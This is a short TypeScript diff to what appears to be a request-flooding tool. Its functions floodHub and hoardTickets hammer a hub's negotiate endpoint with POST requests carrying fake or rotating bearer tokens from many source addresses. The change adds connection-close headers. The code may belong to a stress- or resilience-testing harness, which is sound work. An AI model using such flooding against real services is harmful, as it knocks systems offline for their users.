@@ -56,7 +56,8 @@ export function floodHub(target: Target, flood: Flood): Promise<Attacked> {
     return flood.send({
       url: `${flood.site}/hub/negotiate?negotiateVersion=1`,
       method: 'POST',
-      headers: { authorization: `Bearer ${'A'.repeat(43)}` },
+      // Of ten thousand addresses each would keep its line, and we are out of them ourselves.
+      headers: { authorization: `Bearer ${'A'.repeat(43)}`, connection: 'close' },
       body: '',
       from,
     })
@@ -96,7 +97,7 @@ export function hoardTickets(
     flood.send({
       url: `${flood.site}/hub/negotiate?negotiateVersion=1`,
       method: 'POST',
-      headers: { authorization: `Bearer ${tokens[n % tokens.length]}` },
+      headers: { authorization: `Bearer ${tokens[n % tokens.length]}`, connection: 'close' },
       body: '',
       from: target.address(n),
     }),
